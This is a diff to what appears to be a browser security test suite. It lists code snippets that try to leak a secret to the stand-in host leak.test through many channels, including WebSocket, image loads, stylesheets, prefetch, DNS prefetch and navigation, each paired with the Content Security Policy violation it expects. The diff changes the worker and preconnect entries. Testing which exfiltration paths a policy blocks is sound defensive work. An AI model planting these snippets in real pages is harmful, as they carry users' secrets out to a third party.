@@ -12,7 +12,7 @@ export const PLANTS = {
   socket: { code: 'new WebSocket(`ws://leak.test/?${secret}`)', sign: /policy: connect-src/ },
   events: { code: 'new EventSource(`http://leak.test/?${secret}`)', sign: /policy: connect-src/ },
   ping: { code: 'const a = document.createElement("a"); a.href = "#x"; a.ping = `http://leak.test/?${secret}`; document.body.append(a); a.click()', sign: /policy: connect-src/ },
-  worker: { code: 'new Worker(URL.createObjectURL(new Blob([`fetch("http://leak.test/?${secret}").catch(() => {})`])))', sign: /policy: connect-src|Content Security Policy/ },
+  worker: { code: 'new Worker(URL.createObjectURL(new Blob([`setTimeout(() => fetch("http://leak.test/?${secret}").catch(() => {}), 300)`])))', sign: /policy, in a worker: connect-src/ },
   image: { code: 'new Image().src = `http://leak.test/?${secret}`', sign: /policy: img-src/ },
   style: { code: 'const l = document.createElement("link"); l.rel = "stylesheet"; l.href = `http://leak.test/?${secret}`; document.head.append(l)', sign: /policy: style-src/ },
   background: { code: 'const s = new CSSStyleSheet(); s.replaceSync(`body { background: url(http://leak.test/?${secret}) }`); document.adoptedStyleSheets = [s]', sign: /policy: img-src/ },
@@ -25,7 +25,7 @@ export const PLANTS = {
   prefetch: { code: 'const l = document.createElement("link"); l.rel = "prefetch"; l.href = `http://leak.test/?${secret}`; document.head.append(l)', sign: /policy: / },
   speculation: { code: 'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ urls: [`/some/where/?${secret}`] }] }); document.head.append(s)', sign: /policy: script-src/ },
   // Without a request of the page: what the policy cannot forbid is seen from outside.
-  preconnect: { code: 'const l = document.createElement("link"); l.rel = "preconnect"; l.href = `http://${secret}.leak.test/`; document.head.append(l)', sign: /leak\.test/ },
+  preconnect: { code: 'const l = document.createElement("link"); l.rel = "preconnect"; l.href = `http://${secret}.leak.test/`; document.head.append(l)', sign: /leak\.test/, proxy: false },
   look_up: { code: 'const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = `http://${secret}.leak.test/`; document.head.append(l)', sign: /leak\.test/, proxy: false },
   navigation: { code: 'location.href = `http://leak.test/?${secret}`', sign: /request after load: http:\/\/leak\.test/ },
   window: { code: 'window.open(`http://leak.test/?${secret}`)', sign: /leak\.test/ },
